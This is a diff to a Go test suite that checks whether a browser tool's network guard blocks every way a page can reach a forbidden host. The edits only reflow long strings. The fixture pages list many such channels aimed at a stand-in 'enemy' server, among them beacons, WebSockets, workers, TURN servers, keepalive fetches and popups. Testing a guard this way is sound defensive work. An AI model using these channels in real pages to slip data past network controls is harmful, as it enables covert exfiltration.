@@ -16,14 +16,20 @@ func TestBlockedHostIsNeverReached(t *testing.T) {
 	other := strings.Replace(enemy.URL, "127.0.0.1", "localhost", 1)
 	var home *site
 	home = serve(t, map[string]any{
-		"/": `<!doctype html><title>all</title><h1>Leaks</h1><link rel=prefetch href="{enemy}/prefetch"><link rel=preload as=script href="{enemy}/preload">
-<link rel=dns-prefetch href="//leak.example.test"><link rel=preconnect href="{enemy}"><link rel=stylesheet href="{enemy}/css"><link rel=icon href="{enemy}/icon">
+		"/": `<!doctype html><title>all</title><h1>Leaks</h1><link rel=prefetch href="{enemy}/prefetch">` +
+			`<link rel=preload as=script href="{enemy}/preload">
+<link rel=dns-prefetch href="//leak.example.test"><link rel=preconnect href="{enemy}"><link rel=stylesheet href="{enemy}/css">` +
+			`<link rel=icon href="{enemy}/icon">
 <link rel=manifest href="{enemy}/manifest"><link rel=modulepreload href="{enemy}/module">
-<script type=speculationrules>{"prefetch":[{"source":"list","urls":["{enemy}/spec-prefetch"]}],"prerender":[{"source":"list","urls":["/prerendered"]}]}</script>
-<img src="{enemy}/img"><iframe src="{enemy}/frame"></iframe><iframe srcdoc="<img src='{enemy}/srcdoc'>"></iframe><video src="{enemy}/video"></video><object data="{enemy}/object"></object>
-<div style="background:url({enemy}/background)">x</div><a id=ping href="#x" ping="{enemy}/ping">Ping</a><a href="{enemy}/link">Link</a><a href="{enemy}/dl" download>Save</a>
+<script type=speculationrules>{"prefetch":[{"source":"list","urls":["{enemy}/spec-prefetch"]}],"prerender":[{"source":"list",` +
+			`"urls":["/prerendered"]}]}</script>
+<img src="{enemy}/img"><iframe src="{enemy}/frame"></iframe><iframe srcdoc="<img src='{enemy}/srcdoc'>"></iframe>` +
+			`<video src="{enemy}/video"></video><object data="{enemy}/object"></object>
+<div style="background:url({enemy}/background)">x</div><a id=ping href="#x" ping="{enemy}/ping">Ping</a><a href="{enemy}/link">Link</a>` +
+			`<a href="{enemy}/dl" download>Save</a>
 <a href="{enemy}/blank" target=_blank>Blank</a><a href="{enemy}/noopener" target=_blank rel=noopener>Noopener</a>
-<form action="{enemy}/form" method=post><button>Post</button></form><form action="{enemy}/get"><button>Get</button></form><a href="/redirect">Redirect</a>
+<form action="{enemy}/form" method=post><button>Post</button></form><form action="{enemy}/get"><button>Get</button></form>` +
+			`<a href="/redirect">Redirect</a>
 <button onclick="popup()">Popup</button><a href="/leave">Leave</a>
 <script>
 const E = "{enemy}";
@@ -36,20 +42,29 @@ navigator.sendBeacon(E + '/beacon', 'x');
 try { const s = new EventSource(E + '/events'); s.onerror = () => s.close(); } catch {}
 const ws = new WebSocket(E.replace('http', 'ws') + '/socket'); ws.onerror = () => say('socket'); ws.onopen = () => say('OPEN');
 const f = document.createElement('iframe'); document.documentElement.append(f);
-try { const w2 = new f.contentWindow.WebSocket(E.replace('http', 'ws') + '/socket-of-frame'); w2.onopen = () => say('OPEN'); w2.onerror = () => say('socket2'); } catch (e) { say('socket2'); }
+try { const w2 = new f.contentWindow.WebSocket(E.replace('http', 'ws') + '/socket-of-frame'); w2.onopen = () => say('OPEN'); w2.onerror ` +
+			`= () => say('socket2'); } catch (e) { say('socket2'); }
 try { new RTCPeerConnection({iceServers:[{urls:'turn:'+E.slice(7), username:'a', credential:'b'}]}); say('RTC'); } catch { say('nortc'); }
 try { new f.contentWindow.RTCPeerConnection({}); say('RTC'); } catch {}
 const w = new Worker('/worker.js'); w.onmessage = (e) => say(e.data);
 try { const sh = new SharedWorker('/shared.js'); sh.port.onmessage = (e) => say(e.data); } catch (e) { say('noshared'); }
 navigator.serviceWorker.register('/sw.js').then(() => say('SW'), () => say('nosw'));
-const blob = new Worker(URL.createObjectURL(new Blob(["fetch('" + E + "/blob-worker').catch(() => postMessage('blobworker')); try { const s = new WebSocket('" + E.replace('http','ws') + "/blob-socket'); s.onerror = () => postMessage('blobsocket'); s.onopen = () => postMessage('OPEN'); } catch { postMessage('blobsocket'); }"])));
+const blob = new Worker(URL.createObjectURL(new Blob(["fetch('" + E + "/blob-worker').catch(() => postMessage('blobworker')); try { ` +
+			`const s = new WebSocket('" + E.replace('http','ws') + "/blob-socket'); s.onerror = () => postMessage('blobsocket'); s.onopen = () ` +
+			`=> postMessage('OPEN'); } catch { postMessage('blobsocket'); }"])));
 blob.onmessage = (e) => say(e.data);
-addEventListener('pagehide', () => { fetch(E + '/keepalive', {method:'POST', body:'x', keepalive:true}); navigator.sendBeacon(E + '/bye', 'x'); });
-function popup() { const p = window.open('about:blank'); p.document.write('<title>p</title><img src="' + E + '/popup-img"><script>fetch("' + E + '/popup-fetch"); new WebSocket("' + E.replace('http','ws') + '/popup-socket")<\/script>'); p.document.close(); }
+addEventListener('pagehide', () => { fetch(E + '/keepalive', {method:'POST', body:'x', keepalive:true}); navigator.sendBeacon(E + ` +
+			`'/bye', 'x'); });
+function popup() { const p = window.open('about:blank'); p.document.write('<title>p</title><img src="' + E + '/popup-img"><script>` +
+			`fetch("' + E + '/popup-fetch"); new WebSocket("' + E.replace('http','ws') + '/popup-socket")<\/script>'); p.document.close(); }
 </script>`,
-		"/worker.js": `fetch('{enemy}/worker', {method:'POST', body:'x'}).catch(() => postMessage('worker')); importLater(); function importLater() { try { importScripts('{enemy}/import'); } catch { postMessage('import'); } }
-try { const s = new WebSocket('{enemy}'.replace('http','ws') + '/worker-socket'); s.onerror = () => postMessage('workersocket'); s.onopen = () => postMessage('OPEN'); } catch { postMessage('workersocket'); }`,
-		"/shared.js":   `onconnect = (e) => { const p = e.ports[0]; fetch('{enemy}/shared').catch(() => p.postMessage('shared')); try { const s = new WebSocket('{enemy}'.replace('http','ws') + '/shared-socket'); s.onerror = () => p.postMessage('sharedsocket'); s.onopen = () => p.postMessage('OPEN'); } catch { p.postMessage('sharedsocket'); } };`,
+		"/worker.js": `fetch('{enemy}/worker', {method:'POST', body:'x'}).catch(() => postMessage('worker')); importLater(); function ` +
+			`importLater() { try { importScripts('{enemy}/import'); } catch { postMessage('import'); } }
+try { const s = new WebSocket('{enemy}'.replace('http','ws') + '/worker-socket'); s.onerror = () => postMessage('workersocket'); ` +
+			`s.onopen = () => postMessage('OPEN'); } catch { postMessage('workersocket'); }`,
+		"/shared.js": `onconnect = (e) => { const p = e.ports[0]; fetch('{enemy}/shared').catch(() => p.postMessage('shared')); try { const ` +
+			`s = new WebSocket('{enemy}'.replace('http','ws') + '/shared-socket'); s.onerror = () => p.postMessage('sharedsocket'); s.onopen = ` +
+			`() => p.postMessage('OPEN'); } catch { p.postMessage('sharedsocket'); } };`,
 		"/sw.js":       `fetch('{enemy}/sw');`,
 		"/leave":       `<!doctype html><title>left</title><h1>Left</h1>`,
 		"/prerendered": `<!doctype html><script>fetch('{enemy}/prerendered')</script>`,
@@ -69,9 +84,14 @@ try { const s = new WebSocket('{enemy}'.replace('http','ws') + '/worker-socket')
 
 // A host that may be read from is not written to: by forms, fetches, beacons, sockets.
 func TestBlockedMethods(t *testing.T) {
-	s := serve(t, map[string]any{"/": `<!doctype html><title>-</title><h1>M</h1><form action=/form method=post><label>Name <input name=who></label><button>Send</button></form>
-<button onclick="fetch('/api/7',{method:'DELETE'}).catch(() => document.title='refused')">Delete</button><button onclick="fetch('/api',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({a:1})}).catch(() => document.title='refused too')">Store</button>
-<button onclick="fetch('/read').then(r => document.title=r.status)">Read</button><button onclick="new WebSocket(location.origin.replace('http','ws')+'/live').onerror = () => document.title='no socket'">Live</button>`, "/read": "x"})
+	s := serve(t, map[string]any{"/": `<!doctype html><title>-</title><h1>M</h1><form action=/form method=post><label>Name <input name=who>` +
+		`</label><button>Send</button></form>
+<button onclick="fetch('/api/7',{method:'DELETE'}).catch(() => document.title='refused')">Delete</button>` +
+		`<button onclick="fetch('/api',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({a:1})}).catch(() => ` +
+		`document.title='refused too')">Store</button>
+<button onclick="fetch('/read').then(r => document.title=r.status)">Read</button>` +
+		`<button onclick="new WebSocket(location.origin.replace('http','ws')+'/live').onerror = () => document.title='no socket'">Live</button>`,
+		"/read": "x"})
 	var mu sync.Mutex
 	var asked []Request
 	p := stage(t, Options{Guard: func(r Request) string {
@@ -97,7 +117,8 @@ func TestBlockedMethods(t *testing.T) {
 		}
 	}
 	out := do(t, p, click("button", "Send"))
-	if len(out.Blocked) != 1 || !out.Blocked[0].Form || !out.Blocked[0].Navigation || string(out.Blocked[0].Body) != "who=Ada" || out.Blocked[0].Initiator != s.URL+"/" {
+	if len(out.Blocked) != 1 || !out.Blocked[0].Form || !out.Blocked[0].Navigation || string(out.Blocked[0].Body) != "who=Ada" ||
+		out.Blocked[0].Initiator != s.URL+"/" {
 		t.Errorf("the form: %+v", out.Blocked)
 	}
 	for _, l := range s.requests() {
@@ -135,12 +156,17 @@ func testLeaks(t *testing.T, home, enemy *site, host string) {
 		return "not an allowed site"
 	}})
 	open(t, p, home.URL+"/")
-	for _, what := range []string{"fetch", "redirected", "xhr", "socket", "socket2", "nortc", "worker", "import", "workersocket", "blobworker", "blobsocket", "shared", "sharedsocket", "nosw"} {
-		eventually(t, what+" has failed for the page; so far "+eval(t, p, "done.join()"), func() bool { return strings.Contains(","+eval(t, p, "done.join()")+",", ","+what+",") })
+	for _, what := range []string{"fetch", "redirected", "xhr", "socket", "socket2", "nortc", "worker", "import", "workersocket", "blobworker",
+		"blobsocket", "shared", "sharedsocket", "nosw"} {
+		eventually(t, what+" has failed for the page; so far "+eval(t, p, "done.join()"), func() bool {
+			return strings.Contains(","+eval(t, p, "done.join()")+",", ","+what+",")
+		})
 	}
 	hold(t, "reached", eval(t, p, "done.filter((d) => /OPEN|SW|RTC/.test(d)).join()"), "")
-	for _, a := range []Act{click("link", "Ping"), click("link", "Link"), click("link", "Save"), click("button", "Post"), click("button", "Get"), click("link", "Redirect"),
-		click("link", "Blank"), {Verb: capture.CloseTab}, click("link", "Noopener"), {Verb: capture.CloseTab}, click("button", "Popup"), {Verb: capture.CloseTab}} {
+	for _, a := range []Act{click("link", "Ping"), click("link", "Link"), click("link", "Save"), click("button", "Post"),
+		click("button", "Get"), click("link", "Redirect"),
+		click("link", "Blank"), {Verb: capture.CloseTab}, click("link", "Noopener"), {Verb: capture.CloseTab}, click("button", "Popup"),
+		{Verb: capture.CloseTab}} {
 		tabs := 0
 		p.locked(func() { tabs = len(p.tabs) })
 		if a.Verb == capture.CloseTab && tabs == 1 {
@@ -158,8 +184,10 @@ func testLeaks(t *testing.T, home, enemy *site, host string) {
 	for _, b := range p.Blocked() {
 		seen = append(seen, strings.TrimPrefix(strings.TrimPrefix(b.URL, host), "ws"+host[4:]))
 	}
-	for _, path := range []string{"/img", "/frame", "/srcdoc", "/css", "/background", "/fetch", "/xhr", "/beacon", "/socket", "/worker", "/import", "/worker-socket", "/shared", "/shared-socket",
-		"/blob-worker", "/blob-socket", "/link", "/dl", "/form", "/get?", "/redirected", "/redirected-post", "/blank", "/noopener", "/popup-img", "/popup-fetch", "/popup-socket", "/keepalive", "/bye", "/ping"} {
+	for _, path := range []string{"/img", "/frame", "/srcdoc", "/css", "/background", "/fetch", "/xhr", "/beacon", "/socket", "/worker",
+		"/import", "/worker-socket", "/shared", "/shared-socket",
+		"/blob-worker", "/blob-socket", "/link", "/dl", "/form", "/get?", "/redirected", "/redirected-post", "/blank", "/noopener", "/popup-img",
+		"/popup-fetch", "/popup-socket", "/keepalive", "/bye", "/ping"} {
 		if !has(seen, path) && path != "/ping" {
 			t.Errorf("the guard was not asked about %s", path)
 		}
